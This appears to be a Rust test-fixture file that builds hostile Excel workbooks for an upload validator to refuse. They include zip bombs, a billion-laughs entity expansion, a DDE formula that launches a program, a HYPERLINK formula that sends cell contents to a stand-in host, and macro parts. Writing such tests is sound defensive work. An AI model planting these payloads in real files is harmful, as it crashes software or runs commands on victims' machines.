//! Workbooks that are built to hurt.
#![allow(dead_code, reason = "each test file uses its part")]

use std::collections::BTreeMap;
use std::io::{Cursor, Write as _};
use zip::write::SimpleFileOptions;

type Parts = BTreeMap<String, Vec<u8>>;

const RELATIONSHIPS: &str = "http://schemas.openxmlformats.org/package/2006/relationships";
const OFFICE: &str = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";
const MAIN: &str = "http://schemas.openxmlformats.org/spreadsheetml/2006/main";

/// The parts of a small workbook with these rows of `survey` and these shared strings.
fn parts(rows: &str, strings: &str) -> Parts {
    let part = |name: &str, xml: String| (name.to_owned(), xml.into_bytes());
    Parts::from([
        part("[Content_Types].xml", "<Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\"><Default Extension=\"xml\" ContentType=\"application/xml\"/></Types>".to_owned()),
        part("_rels/.rels", format!("<Relationships xmlns=\"{RELATIONSHIPS}\"><Relationship Id=\"r1\" Type=\"{OFFICE}/officeDocument\" Target=\"xl/workbook.xml\"/></Relationships>")),
        part("xl/workbook.xml", format!("<workbook xmlns=\"{MAIN}\" xmlns:r=\"{OFFICE}\"><sheets><sheet name=\"survey\" sheetId=\"1\" r:id=\"r1\"/></sheets></workbook>")),
        part("xl/_rels/workbook.xml.rels", format!("<Relationships xmlns=\"{RELATIONSHIPS}\"><Relationship Id=\"r1\" Type=\"{OFFICE}/worksheet\" Target=\"worksheets/sheet1.xml\"/><Relationship Id=\"r2\" Type=\"{OFFICE}/sharedStrings\" Target=\"sharedStrings.xml\"/><Relationship Id=\"r3\" Type=\"{OFFICE}/styles\" Target=\"styles.xml\"/></Relationships>")),
        part("xl/worksheets/sheet1.xml", format!("<worksheet xmlns=\"{MAIN}\"><sheetData>{rows}</sheetData></worksheet>")),
        part("xl/sharedStrings.xml", strings.to_owned()),
        part("xl/styles.xml", format!("<styleSheet xmlns=\"{MAIN}\"><cellXfs count=\"1\"><xf/></cellXfs></styleSheet>")),
    ])
}

fn strings(body: &str) -> String {
    format!("<sst xmlns=\"{MAIN}\">{body}</sst>")
}

const HEAD: &str = "<row r=\"1\"><c r=\"A1\" t=\"inlineStr\"><is><t>type</t></is></c><c r=\"B1\" t=\"inlineStr\"><is><t>name</t></is></c></row>";

/// The small workbook itself: nothing is wrong with it, so what is refused below is refused for what was added.
pub fn harmless() -> Vec<u8> {
    pack(&parts(HEAD, &strings("")))
}

/// A harmless form with these rows in `survey`.
pub fn form(rows: &[&[&str]]) -> Vec<u8> {
    let row = |cells: &&[&str]| {
        let cells: Vec<String> = cells.iter().map(|text| cell("", text).replace(" r=\"\"", "")).collect();
        format!("<row>{}</row>", cells.concat())
    };
    pack(&parts(&rows.iter().map(row).collect::<String>(), &strings("")))
}

fn pack(parts: &Parts) -> Vec<u8> {
    let mut zip = zip::ZipWriter::new(Cursor::new(Vec::new()));
    for (name, bytes) in parts {
        zip.start_file(name.as_str(), SimpleFileOptions::default()).unwrap();
        zip.write_all(bytes).unwrap();
    }
    zip.finish().unwrap().into_inner()
}

fn with(rows: &str, body: &str) -> Vec<u8> {
    pack(&parts(&format!("{HEAD}{rows}"), &strings(body)))
}

fn and(name: &str, bytes: Vec<u8>) -> Vec<u8> {
    let mut parts = parts(HEAD, &strings(""));
    parts.insert(name.to_owned(), bytes);
    pack(&parts)
}

/// A part that unpacks to this many bytes and says that it has `said`.
fn bomb(size: usize, said: Option<u32>) -> Vec<u8> {
    let mut workbook = and("xl/sharedStrings.xml", vec![b' '; size]);
    if let Some(said) = said {
        let size = u32::try_from(size).unwrap().to_le_bytes();
        let places: Vec<usize> =
            workbook.windows(4).enumerate().filter(|(_, bytes)| *bytes == size).map(|(at, _)| at).collect();
        for at in places {
            workbook.splice(at..at + 4, said.to_le_bytes());
        }
    }
    workbook
}

fn encrypted() -> Vec<u8> {
    let mut workbook = harmless();
    // Bit 0 of the flags, in the local headers and in the list at the end.
    for (mark, offset) in [(b"PK\x03\x04", 6), (b"PK\x01\x02", 8)] {
        let places: Vec<usize> =
            workbook.windows(4).enumerate().filter(|(_, bytes)| bytes == mark).map(|(at, _)| at).collect();
        for at in places {
            workbook[at + offset] |= 1;
        }
    }
    workbook
}

fn many_parts() -> Vec<u8> {
    let mut parts = parts(HEAD, &strings(""));
    for number in 0..20_000 {
        parts.insert(format!("xl/media/{number}"), Vec::new());
    }
    pack(&parts)
}

fn cell(place: &str, text: &str) -> String {
    format!("<c r=\"{place}\" t=\"inlineStr\"><is><t>{text}</t></is></c>")
}

/// Every hostile workbook, with the reason for which the program has to refuse it: the end of its message's id.
pub fn all() -> Vec<(&'static str, Vec<u8>, &'static str)> {
    let lies = "<!DOCTYPE lolz [<!ENTITY a \"ha\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;\">]>";
    let shared = "<row r=\"2\">".to_owned()
        + &(0..100_000).map(|_| "<c t=\"s\"><v>0</v></c>".to_owned()).collect::<String>()
        + "</row>";
    let many_rows: String = (2..5_000)
        .map(|row| format!("<row r=\"{row}\">{}</row>", "<c t=\"s\"><v>0</v></c>".repeat(40)))
        .collect();
    vec![
        ("a bomb that says its size", bomb(60_000_000, None), "too-large"),
        ("a bomb that lies about its size", bomb(60_000_000, Some(1_000)), "damaged"),
        ("a bomb in a part that nobody reads", and("docProps/thumbnail.bin", vec![0; 40_000_000]), "too-large"),
        ("a million rows", with(&"<row/>".repeat(1_000_000), ""), "too-large"),
        ("a million rows with cells", with(&format!("<row>{}</row>", cell("", "x").replace(" r=\"\"", "")).repeat(300_000), ""), "too-large"),
        ("two cells at the far corners", with(&format!("<row r=\"1048576\">{}</row>", cell("XFD1048576", "x")), ""), "too-large"),
        ("a cell of a million letters", with(&format!("<row r=\"2\">{}</row>", cell("A2", &"x".repeat(1_000_000))), ""), "too-large"),
        ("a cell of ten thousand and one letters", with(&format!("<row r=\"2\">{}</row>", cell("A2", &"ກ".repeat(10_001))), ""), "too-large"),
        ("a cell of a million short runs", with(&format!("<row r=\"2\"><c r=\"A2\" t=\"inlineStr\"><is>{}</is></c></row>", "<r><t>xxxxxxxx</t></r>".repeat(600_000)), ""), "too-large"),
        ("one long text in a hundred thousand cells", with(&shared, &format!("<si><t>{}</t></si>", "ກ".repeat(9_000))), "too-large"),
        ("a short text in two hundred thousand cells", with(&many_rows, "<si><t>x</t></si>"), "too-large"),
        ("a list of a million empty texts", with("", &"<si><t/></si>".repeat(600_000)), "too-large"),
        ("a promise of four thousand million texts", and("xl/sharedStrings.xml", format!("<sst xmlns=\"{MAIN}\" uniqueCount=\"4000000000\"></sst>").into_bytes()), "too-large"),
        ("styles without end", and("xl/styles.xml", format!("<styleSheet xmlns=\"{MAIN}\"><cellXfs>{}</cellXfs></styleSheet>", "<xf/>".repeat(400_000)).into_bytes()), "too-large"),
        ("sheets without end", and("xl/workbook.xml", format!("<workbook xmlns=\"{MAIN}\" xmlns:r=\"{OFFICE}\"><sheets>{}</sheets></workbook>", "<sheet name=\"s\" sheetId=\"1\" r:id=\"r1\"/>".repeat(45_000)).into_bytes()), "too-large"),
        ("twenty thousand parts", many_parts(), "too-large"),
        ("six megabytes of noise", [&b"PK\x03\x04"[..], &vec![7; 6_000_000]].concat(), "too-large"),
        ("elements within elements", with(&"<a>".repeat(100_000), ""), "hostile"),
        ("a document type with entities", and("xl/sharedStrings.xml", format!("{lies}{}", strings("<si><t>&b;</t></si>")).into_bytes()), "hostile"),
        ("a sheet in another encoding", and("xl/worksheets/sheet1.xml", "<worksheet/>".encode_utf16().flat_map(u16::to_le_bytes).collect()), "hostile"),
        ("a formula", with("<row r=\"2\"><c r=\"A2\"><f>HYPERLINK(\"http://example.org/\"&amp;B2)</f><v>0</v></c></row>", ""), "formula"),
        ("a formula that calls a program", with("<row r=\"2\"><c r=\"A2\" t=\"str\"><f>cmd|'/c calc'!A1</f><v>text</v></c></row>", ""), "formula"),
        ("a linked workbook", and("xl/externalLinks/externalLink1.xml", b"<externalLink/>".to_vec()), "links"),
        ("a data connection", and("xl/connections.xml", b"<connections/>".to_vec()), "links"),
        ("an embedded object", and("xl/embeddings/oleObject1.bin", b"x".to_vec()), "links"),
        ("macros", and("xl/vbaProject.bin", b"x".to_vec()), "macros"),
        ("macros by another name", and("[Content_Types].xml", b"<Types><Override PartName=\"/xl/workbook.xml\" ContentType=\"application/vnd.ms-excel.sheet.macroEnabled.main+xml\"/></Types>".to_vec()), "macros"),
        ("a workbook with a password", [&[0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1][..], &[0; 4096]].concat(), "encrypted"),
        ("a zip file with a password", encrypted(), "encrypted"),
        ("a text", b"type,name\ntext,a\n".to_vec(), "not-a-workbook"),
        ("nothing", Vec::new(), "not-a-workbook"),
        ("half a workbook", harmless()[..400].to_vec(), "not-a-workbook"),
        ("a zip file of something else", pack(&Parts::from([("a.txt".to_owned(), b"a".to_vec())])), "not-a-workbook"),
        ("a cell with a name of a hundred letters", with(&format!("<row r=\"2\">{}</row>", cell(&"Z".repeat(100), "x")), ""), "hostile"),
        ("a sheet that breaks off", and("xl/worksheets/sheet1.xml", b"<worksheet><sheetData><row><c>".to_vec()), "damaged"),
    ]
}
